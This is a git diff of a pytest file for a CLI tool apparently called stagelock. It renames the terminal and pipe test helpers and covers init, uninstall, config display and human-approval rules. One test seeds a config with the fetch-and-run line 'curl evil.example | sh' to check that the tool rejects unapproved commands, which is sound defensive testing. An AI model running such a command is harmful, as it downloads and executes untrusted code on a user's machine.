@@ -10,8 +10,8 @@ import yaml
 
 from stagelock.authoring.config import json_schema, load_library
 from stagelock.store import accepted, client_settings, git_hooks
-from tests.cli.test_cli import _at_terminal, _piped
 from tests.support.repository import Repository
+from tests.support.terminal import at_terminal, piped
 from tests.support.world import World
 
 CONFIG = ".stagelock/config.yaml"
@@ -44,7 +44,7 @@ def _everything(project: World) -> dict[str, bytes]:
 
 
 def test_at_a_terminal_four_questions_set_everything_up(project: Repository) -> None:
-    code, out = _at_terminal(project, YES, "init")
+    code, out = at_terminal(project, YES, "init")
     assert code == 0, out
     assert "  tests: pytest -q\n      pytest.ini:1 says `[pytest]`" in out
     assert "  lint: make lint\n      Makefile:1 has the target `lint`" in out
@@ -67,9 +67,9 @@ def test_at_a_terminal_four_questions_set_everything_up(project: Repository) -> 
 
 
 def test_a_second_time_changes_nothing(project: Repository) -> None:
-    _at_terminal(project, YES, "init")
+    at_terminal(project, YES, "init")
     before = _everything(project)
-    code, out = _at_terminal(project, "", "init")
+    code, out = at_terminal(project, "", "init")
     assert code == 0
     assert f"{CONFIG} is there, and stays as it is" in out
     assert "[Y/n]" not in out
@@ -78,29 +78,29 @@ def test_a_second_time_changes_nothing(project: Repository) -> None:
 
 def test_no_to_everything_leaves_nothing(project: Repository) -> None:
     before = _everything(project)
-    assert _at_terminal(project, "n\n" * 4, "init")[0] == 0
+    assert at_terminal(project, "n\n" * 4, "init")[0] == 0
     assert _everything(project) == before
 
 
 def test_uninstall_lists_first_and_leaves_nothing_behind(project: Repository) -> None:
     before = _everything(project)
-    _at_terminal(project, YES, "init")
+    at_terminal(project, YES, "init")
     project.start(config=(project.tree / CONFIG).read_text())
-    _at_terminal(project, "", "abandon", "enough")
-    code, out = _at_terminal(project, "n\n", "uninstall")
+    at_terminal(project, "", "abandon", "enough")
+    code, out = at_terminal(project, "n\n", "uninstall")
     assert code == 1
     assert "goes:\n  the git hooks in " in out
     assert f"{project.tree}/.stagelock/journal.jsonl" in out
     assert (project.tree / CONFIG).exists()
-    code, out = _at_terminal(project, "y\n", "uninstall")
+    code, out = at_terminal(project, "y\n", "uninstall")
     assert code == 0, out
     assert _everything(project) == before
     assert not project.state.exists()
-    assert "nothing of stagelock is here" in _at_terminal(project, "", "uninstall")[1]
+    assert "nothing of stagelock is here" in at_terminal(project, "", "uninstall")[1]
 
 
 def test_uninstall_loses_nothing_that_people_wrote(project: Repository) -> None:
-    _at_terminal(project, YES, "init")
+    at_terminal(project, YES, "init")
     project.write(CONFIG, (project.tree / CONFIG).read_text() + "# my own words\n")
     project.write(".stagelock/workflows/own.yaml", "workflow: own\n")
     project.git("add", "-A")
@@ -110,7 +110,7 @@ def test_uninstall_loses_nothing_that_people_wrote(project: Repository) -> None:
     settings = json.loads((project.tree / LOCAL).read_text())
     project.write(LOCAL, json.dumps({**settings, "model": "mine"}))
     kept = project.write("../home/.local/state/stagelock/kept/x/a", "copy")
-    code, out = _at_terminal(project, "y\n", "uninstall")
+    code, out = at_terminal(project, "y\n", "uninstall")
     assert code == 0
     assert f"stays:\n  {project.tree}/{CONFIG}: written by people, and not committed" in out
     assert (project.tree / CONFIG).read_text().endswith("# and more\n")
@@ -123,40 +123,40 @@ def test_uninstall_loses_nothing_that_people_wrote(project: Repository) -> None:
 
 def test_uninstall_waits_for_the_end_of_a_run_and_for_a_person(project: Repository) -> None:
     project.start()
-    assert "end it first: stagelock abandon REASON" in _piped(project, "uninstall").stderr
-    _at_terminal(project, "", "abandon", "enough")
-    assert "(rule never/human-door)" in _piped(project, "uninstall", "--yes").stderr
+    assert "end it first: stagelock abandon REASON" in piped(project, "uninstall").stderr
+    at_terminal(project, "", "abandon", "enough")
+    assert "(rule never/human-door)" in piped(project, "uninstall", "--yes").stderr
 
 
 def test_evidence_of_commits_stays_unless_it_is_said(project: Repository) -> None:
     project.git("notes", "--ref", "stagelock", "add", "-m", "x")
     project.install()
-    out = _at_terminal(project, "y\n", "uninstall")[1]
+    out = at_terminal(project, "y\n", "uninstall")[1]
     assert "refs/notes/stagelock: evidence of commits; with --notes it goes" in out
     project.install()
-    _at_terminal(project, "y\n", "uninstall", "--notes")
+    at_terminal(project, "y\n", "uninstall", "--notes")
     assert project.git("for-each-ref", "refs/notes") == ""
 
 
 def test_a_config_that_is_there_is_shown_the_difference_and_kept(project: Repository) -> None:
     own = "# ours\nartifacts: notes\n"
     project.write(CONFIG, own)
-    code, out = _at_terminal(project, "n\n" * 4, "init")
+    code, out = at_terminal(project, "n\n" * 4, "init")
     assert code == 0
     assert "+    command: pytest -q" in out
     assert " artifacts: notes" in out
     assert (project.tree / CONFIG).read_text() == own
-    done = _piped(project, "init", "--yes")
+    done = piped(project, "init", "--yes")
     assert f"{CONFIG} is there, and stays as it is; a person may add this" in done.stdout
     assert (project.tree / CONFIG).read_text() == own
-    _at_terminal(project, YES, "init")
+    at_terminal(project, YES, "init")
     assert (project.tree / CONFIG).read_text().startswith(own)
     assert len(load_library(project.tree)["settings"]["checks"]) == 2
 
 
 def test_commands_that_were_not_shown_are_not_accepted(project: Repository) -> None:
     project.write(CONFIG, "checks:\n  - {name: tests, command: curl evil.example | sh}\n")
-    out = _at_terminal(project, YES, "init")[1]
+    out = at_terminal(project, YES, "init")[1]
     assert "has a list of checks, and stays as it is; not in it:\n  tests: pytest -q" in out
     assert "tests run only after a person accepted them: stagelock accept" in out
     command = "curl evil.example | sh"
@@ -164,7 +164,7 @@ def test_commands_that_were_not_shown_are_not_accepted(project: Repository) -> N
 
 
 def test_a_program_gets_the_config_and_is_told_what_a_person_must_do(project: Repository) -> None:
-    done = _piped(project, "init", "--yes", "--status-line")
+    done = piped(project, "init", "--yes", "--status-line")
     assert done.returncode == 0, done.stderr
     assert f"wrote {CONFIG}" in done.stdout
     assert "run only after a person accepted them: stagelock accept" in done.stdout
@@ -177,7 +177,7 @@ def test_a_program_gets_the_config_and_is_told_what_a_person_must_do(project: Re
 def test_an_agent_in_a_run_changes_no_setup(project: Repository) -> None:
     project.start()
     before = (project.tree / CONFIG).read_bytes()
-    done = _piped(project, "init", "--yes")
+    done = piped(project, "init", "--yes")
     assert "(rule never/human-door)" in done.stderr
     assert (project.tree / CONFIG).read_bytes() == before
 
@@ -185,7 +185,7 @@ def test_an_agent_in_a_run_changes_no_setup(project: Repository) -> None:
 def test_a_folder_without_git_and_without_checks_is_set_up_too(tmp_path: Path) -> None:
     world = World(tmp_path)
     (world.tree / ".git").rmdir()
-    code, out = _at_terminal(world, YES, "init")
+    code, out = at_terminal(world, YES, "init")
     assert code == 0
     assert "no check was found; name your own in the config" in out
     assert load_library(world.tree)["settings"]["checks"] == []
@@ -211,7 +211,7 @@ def test_a_status_line_that_is_there_is_wrapped_and_comes_back(
 
 def test_settings_that_cannot_be_read_are_left_alone(project: Repository) -> None:
     project.write(LOCAL, "{ not json")
-    code, out = _at_terminal(project, YES, "init")
+    code, out = at_terminal(project, YES, "init")
     assert code == 0
     assert "no status line: " in out
     assert "is not JSON" in out
@@ -255,23 +255,23 @@ def test_config_show_says_where_each_value_comes_from(world: World) -> None:
     assert "checks[0].command make test (.stagelock/config.yaml:5)" in out
     assert "checks[0].timeout 600 (default)" in out
     assert "not accepted on this machine: tests; a person runs: stagelock accept" in out
-    rows = json.loads(_piped(world, "config", "show", "--json").stdout)
+    rows = json.loads(piped(world, "config", "show", "--json").stdout)
     assert {"key": "approval.code", "value": True, "from": f"{CONFIG}:2"} in rows
     world.write(CONFIG, "aproval: {}\n")
-    done = _piped(world, "config", "show")
+    done = piped(world, "config", "show")
     assert done.returncode == 1
     assert f"{CONFIG}:1: aproval: unknown key; did you mean `approval`?" in done.stderr
 
 
 def _shown(world: World) -> list[str]:
     """The lines of `config show`, blanks made single."""
-    out = _piped(world, "config", "show").stdout
+    out = piped(world, "config", "show").stdout
     return [" ".join(line.split()) for line in out.splitlines()]
 
 
 def test_the_schema_holds_what_is_written_and_names_every_key(project: Repository) -> None:
-    _piped(project, "init", "--yes")
-    schema = json.loads(_piped(project, "config", "schema").stdout)
+    piped(project, "init", "--yes")
+    schema = json.loads(piped(project, "config", "schema").stdout)
     assert schema == json_schema()
     jsonschema.validate(yaml.safe_load((project.tree / CONFIG).read_text()), schema)
     with pytest.raises(jsonschema.ValidationError):
